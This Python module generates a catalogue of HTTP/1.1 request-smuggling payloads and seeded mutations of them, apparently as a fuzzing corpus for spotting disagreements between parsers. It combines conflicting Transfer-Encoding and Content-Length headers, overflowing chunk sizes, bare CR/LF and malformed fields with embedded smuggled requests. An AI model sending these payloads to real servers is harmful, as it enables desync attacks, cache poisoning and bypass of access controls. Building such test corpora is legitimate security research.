"""Byte streams that parsers of HTTP/1.1 have read in two ways (the project's catalogue of threats:
duplicate and mixed lengths, spellings of chunked, chunk sizes that overflow, bare CR and LF, folded
and malformed fields, targets and hosts that disagree, bytes sent ahead of a switch of protocols),
and mutations of them. Written here, by rule.

Every request in a payload has a path of its own, "/p<number>/<letter>", so that a log tells who saw
it.
"""

import itertools
import random

MUTATION_SEED = 20261121

# Ways in which one parser sees "chunked" and another does not.
CODINGS = [
    b"Transfer-Encoding: chunked", b"transfer-encoding: CHUNKED", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked", b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\x0c", b"Transfer-Encoding: chunked ", b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: , chunked", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: identity",
    b"Transfer-Encoding:", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\n chunked",
    b"X: y\r\n Transfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked", b"X: y\x00\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding\x00: chunked",
    b"Transfer_Encoding: chunked", b"Transfer-Encoding: ch\xc3\xbcnked",
    b"Transfer-Encoding: chunked\r", b"Transfer-Encoding: chunked\nX: y",
    b"\x00Transfer-Encoding: chunked", b"Transfer-Encoding: cow", b"Transfer-Encodin\xc7: chunked",
    b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
]
# Ways in which lengths differ. {} is the length one of the two would take.
LENGTHS = [
    b"Content-Length: %d", b"content-length: %d", b"Content-Length : %d", b"Content-Length:%d",
    b"Content-Length: +%d", b"Content-Length: -%d", b"Content-Length: 0%d", b"Content-Length: 0x%d",
    b"Content-Length: %d ", b"Content-Length: %d,%d", b"Content-Length: %d, 0",
    b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: %d", b"Content-Length:", b"Content-Length: ",
    b"Content-Length: %d\x00", b"Content-Length: \x0b%d", b"Content-Length: %d.0",
    b"Content-Length: %de0", b"Content-Length: 1844674407370955161%d", b"Content-Length:\r\n %d",
    b"X: y\rContent-Length: %d", b"X: y\nContent-Length: %d", b"Content_Length: %d",
    b"Content-Length\x00: %d", b" Content-Length: %d", b"Content-Length: %d\r",
    b"Connection: content-length\r\nContent-Length: %d", b"Content-Length: '%d'",
]
# First lines of a chunk of five bytes, right or not.
CHUNK_SIZES = [
    b"5", b"05", b"000000005", b"5;", b"5;a=b", b"5 ;a", b"5 ", b" 5", b"\t5", b"+5", b"-5", b"0x5",
    b"5;a=\"\r\n", b"5;\n", b"5\n", b"5\r", b"5\x00", b"5,5", b"5h", b"", b"10000000000000005",
    b"ffffffffffffffff5", b"8000000000000000", b"5;" + b"a" * 5000, b"5\x0b", b"5\r\r", b"5_0",
]
CHUNK_ENDS = [b"\r\n", b"\n", b"\r", b"", b"\n\r", b"XX", b"\r\n\r\n"]
TARGETS = [
    b"{a} HTTP/1.1", b"{a}  HTTP/1.1", b"{a}\tHTTP/1.1", b"{a} HTTP/1.0", b"{a}", b"{a} HTTP/0.9",
    b"{a} HTTP/1.2", b"{a} HTTP/2.0", b"{a} http/1.1", b"{a} HTTP/1.1 ", b"{a} HTTP/1.1\r",
    b"{a} {b} HTTP/1.1", b"http://other{a} HTTP/1.1", b"http://x{a} HTTP/1.1", b"//x{a} HTTP/1.1",
    b"{a}#frag HTTP/1.1", b"{a}\x00 HTTP/1.1", b"{a}\xff HTTP/1.1", b"* HTTP/1.1",
    b"{a} HTTP/1.1\nX: y", b"{a}%00 HTTP/1.1", b"{a} HTTP/01.1", b"{a} HTTP/1.10",
]
METHODS = [b"GET", b"POST", b"HEAD", b"OPTIONS", b"get", b"G ET", b" GET", b"GET\x00", b"", b"P\xffST"]
FIELDS = [
    b"NoColon", b": empty", b"A B: c", b"A\x00: c", b"A: b\x00c", b"A: b\rc", b"A: b\nc", b"A\r: b",
    b"\rA: b", b"A\x80: b", b"A: \x80", b"A:b\r\n c", b"A:b\r\n\tc", b"(a): b", b"A: b\x7f", b"A;: b",
    b"Host: two", b"Host: x, y", b"Host: x:99999", b"Host: x y", b"Host:", b"Host: a@b", b"\"A\": b",
    b"Connection: close\r\nConnection: keep-alive", b"Connection: host", b"Expect: 100-continue",
    b"Expect: x", b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
    b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: x\r\nConnection: Upgrade",
    b"Trailer: Content-Length", b"A: " + b"b" * 9000, b"TE: chunked", b"Keep-Alive: 1",
]
ENDS = [b"\r\n\r\n", b"\n\n", b"\r\n\n", b"\n\r\n", b"\r\r", b"\r\n\r\r\n", b"\r\n \r\n", b"\r\n\r\nX",
        b"\r\n\x00\r\n"]
MUTANTS = [b"\r", b"\n", b"\x00", b" ", b"\t", b":", b"\r\n", b"\r\n\r\n", b";", b",", b"\x0b",
           b"\x80", b"0", b"\r\n ", b"\xff", b""]


class Payloads:
    """Makes them; each gets a number."""

    def __init__(self):
        self.all = []

    def add(self, make):
        number = len(self.all)
        self.all.append(make(lambda letter: b"/p%d/%s" % (number, letter)))


def request(path, line=None, fields=(), method=b"GET", end=b"\r\n\r\n"):
    first = method + b" " + (line or path + b" HTTP/1.1")
    return b"\r\n".join([first, b"Host: x", *fields]) + end


def filled(length, size):
    return length.replace(b"%d", str(size).encode())


def smuggled(path):
    return request(path(b"b"))


def catalogue():
    payloads = Payloads()
    sound = lambda path: request(path(b"c"), fields=[b"Connection: close"])
    # What a coding and a length say of the same body.
    for coding, length in itertools.product(CODINGS, LENGTHS[::2]):
        payloads.add(lambda path: request(
            path(b"a"), method=b"POST",
            fields=[coding, filled(length, 6)]) + b"0\r\n\r\n" + smuggled(path) + sound(path))
    for coding in CODINGS:
        payloads.add(lambda path: request(path(b"a"), method=b"POST", fields=[coding])
                     + b"0\r\n\r\n" + smuggled(path) + sound(path))
        payloads.add(lambda path: request(path(b"a"), fields=[coding])
                     + b"5\r\nhello\r\n0\r\n\r\n" + sound(path))
    for length, method in itertools.product(LENGTHS, (b"POST", b"GET", b"HEAD")):
        payloads.add(lambda path: request(
            path(b"a"), method=method,
            fields=[filled(length, len(smuggled(path)))]) + smuggled(path) + sound(path))
    for size, end in itertools.product(CHUNK_SIZES, CHUNK_ENDS):
        payloads.add(lambda path: request(
            path(b"a"), method=b"POST", fields=[CODINGS[0]])
            + size + b"\r\nhello" + end + b"0\r\n\r\n" + smuggled(path) + sound(path))
    for line, method in itertools.product(TARGETS, METHODS):
        payloads.add(lambda path: request(
            path(b"a"), method=method,
            line=line.replace(b"{a}", path(b"a")).replace(b"{b}", path(b"b"))) + sound(path))
    for field, end in itertools.product(FIELDS, ENDS):
        payloads.add(lambda path: request(path(b"a"), fields=[field], end=end)
                     + smuggled(path) + sound(path))
    for prefix in (b"\r\n", b"\n", b"\r\n\r\n", b"\r", b"\x00", b" ", b"\xef\xbb\xbf", b"0\r\n\r\n"):
        payloads.add(lambda path: prefix + request(path(b"a")) + prefix + sound(path))
    # Trailers that would be headers, and bytes ahead of an answer.
    for trailer in (b"Content-Length: 9", b"Transfer-Encoding: chunked", b"Host: other", b"A b: c",
                    b"A: b\rGET /", b" folded", b"A: b\n", b"X" * 9000 + b": y"):
        payloads.add(lambda path: request(path(b"a"), method=b"POST", fields=[CODINGS[0]])
                     + b"0\r\n" + trailer + b"\r\n\r\n" + sound(path))
    for ahead in (b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n",
                  b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\nContent-Length: 5\r\n\r\n"):
        payloads.add(lambda path: ahead + smuggled(path) + sound(path))
    return payloads


def corpus(size):
    """The catalogue, then mutations of it, until there are `size`."""
    payloads = catalogue()
    choice = random.Random(MUTATION_SEED)
    originals = len(payloads.all)
    while len(payloads.all) < size:
        of = choice.randrange(originals)
        original = payloads.all[of]

        def mutated(path):
            data = original.replace(b"/p%d/" % of, path(b""))
            for _ in range(choice.choice((1, 1, 2, 3))):
                # Where lines and fields meet rather than anywhere.
                places = [at for at, byte in enumerate(data) if byte in b"\r\n:, ;"]
                at = choice.choice(places) + choice.randrange(2)
                drop = choice.randrange(3)
                data = data[:at] + choice.choice(MUTANTS) + data[at + drop:]
            return data

        # Every other one behind a sound request, as an attacker reaches a connection in use.
        behind = len(payloads.all) % 2 == 1
        payloads.add(lambda path: (request(path(b"s")) if behind else b"") + mutated(path))
    return payloads.all
